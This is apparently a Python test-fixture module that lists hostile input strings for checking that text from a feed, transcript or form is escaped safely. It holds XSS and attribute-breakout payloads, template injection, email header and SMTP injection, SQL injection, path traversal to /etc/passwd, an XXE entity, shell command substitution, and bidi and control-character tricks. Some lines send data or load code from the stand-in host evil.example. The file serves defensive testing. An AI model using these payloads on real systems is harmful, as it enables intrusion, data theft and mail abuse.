"""Texts that mean harm, for every place where words of a feed, a transcript or a form may come to stand.

What belongs here: the texts and addresses. What does not: where they are put, and what must not come of it.

What would be run if one of them became code names `pwned`.
"""

from __future__ import annotations

from typing import Final

MARKUP: Final = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<ScRiPt src=//evil.example/pwned.js></sCrIpT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=pwned()//",
    "<svg onload=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data='data:text/html,<script>pwned()</script>'></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/pwned'>",
    "<base href=https://evil.example/pwned/>",
    "<link rel=stylesheet href=https://evil.example/pwned.css>",
    "<style>@import 'https://evil.example/pwned.css';</style>",
    "<form action=https://evil.example/pwned><input name=password>",
    "<a href='javascript:pwned()'>read on</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><script>pwned()</script></template>",
    "<!--><img src=x onerror=pwned()>-->",
    "<!DOCTYPE html><html><head></head>pwned",
    "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
    "<![CDATA[<script>pwned()</script>]]>",
    "]]><script>pwned()</script><![CDATA[",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "</title><script>pwned()</script>",
    "</textarea></style></noscript><script>pwned()</script>",
)
ATTRIBUTES: Final = (
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    "` onclick=`pwned()",
    '"><svg/onload=pwned()>',
    "x style=background:url(https://evil.example/pwned.png)",
    "javascript:pwned()",
    "expression(pwned())",
)
TEMPLATES: Final = (
    "{{ 7 * 191 }}",
    "{{ self.__init__.__globals__.pwned() }}",
    "{% for x in pwned %}{{ x }}{% endfor %}",
    "{% raw %}",
    "{# a comment that never ends",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "%(pwned)s %s {0.__class__} $pwned",
)
MARKDOWN: Final = (
    "[click](javascript:pwned())",
    "![seen](https://evil.example/pwned.png)",
    "text](https://evil.example/pwned) [more",
    "```\npwned\n```\n\n# A heading\n\n***",
    "| a | b |\n|---|---|\n| pwned | c |",
    "<https://evil.example/pwned>",
)
CHAT: Final = (
    "<!channel> <!here> <@U12345> pwned",
    "<https://evil.example/pwned|our bank>",
    "*bold* _thin_ ~gone~ `code` pwned",
)
HEADERS: Final = (
    "Ida\r\nBcc: pwned@evil.example",
    "Ida\nSubject: pwned",
    "Ida\r\n\r\n<script>pwned()</script>",
    "Ida%0d%0aBcc:pwned@evil.example",
    "Ida\u2028Bcc: pwned@evil.example\u2029",
    "Ida\x0b\x0cX-Pwned: pwned\x85X-More: pwned",
    "=?utf-8?q?Ida=0D=0ABcc=3A_pwned=40evil=2Eexample?=",
    'Ida" <pwned@evil.example>, "',
    "\r\n.\r\nMAIL FROM:<pwned@evil.example>\r\n",
    "\n.\nRCPT TO:<pwned@evil.example>\n",
)
DIRECTIONS: Final = (
    "invoice\u202egnp.exe pwned",
    "\u202dforced\u202c \u2067isolated\u2069 \u200fmarked pwned",
    "\u061cpwned\u2066\u2068",
    "שלום pwned עולם",
)
CONTROLS: Final = (
    "nul\x00 pwned",
    "\x1b[31mred\x1b[0m pwned",
    "\x1b]8;;https://evil.example\x1b\\pwned\x1b]8;;\x1b\\",
    "back\x08\x08\x08\x08\x7f\x9b31m pwned",
    "lone \ud800 surrogate \udfff pwned",
    "no character \ufffe \uffff \ufdd0 pwned",
    "zero\u200bwidth\u2060\ufeff pwned",
    "s\u0336" * 50 + " pwned",
    "e" + "\u0301" * 500 + " pwned",
)
QUERIES: Final = (
    "'; drop table subscribers; --",
    '" or ""=" pwned',
    "pwned%' or 1=1 --",
    "../../../../etc/passwd",
    "..\\..\\pwned",
    "; touch pwned #",
    "$(touch pwned) `touch pwned`",
)
SIZES: Final = (
    "p" * 10_000,
    "<b>pwned " * 2_000,
    "pwned " * 5_000,
    "\u202e" * 10_000,
    "",
    " \t\n ",
)

HOSTILE: Final = (
    *MARKUP,
    *ATTRIBUTES,
    *TEMPLATES,
    *MARKDOWN,
    *CHAT,
    *HEADERS,
    *DIRECTIONS,
    *CONTROLS,
    *QUERIES,
    *SIZES,
)

# Addresses of evidence that must not become links, or must not end the attribute in which they stand.
HOSTILE_URLS: Final = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\tscript:pwned()",
    "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "file:///etc/passwd",
    "//evil.example/pwned",
    "https:evil.example",
    "https://",
    "https://[::1",
    "",
    'https://quay.example/1" onclick="pwned()',
    "https://quay.example/1'><script>pwned()</script>",
    "https://quay.example/1>) [click](https://evil.example/pwned",
    "https://quay.example/1\r\nBcc: pwned@evil.example",
    "https://quay.example/1|pwned>",
    "https://quay.example/{{ 7 * 191 }}",
    "https://quay.example/\u202egnp.exe",
    "https://quay.example/" + "p" * 10_000,
)
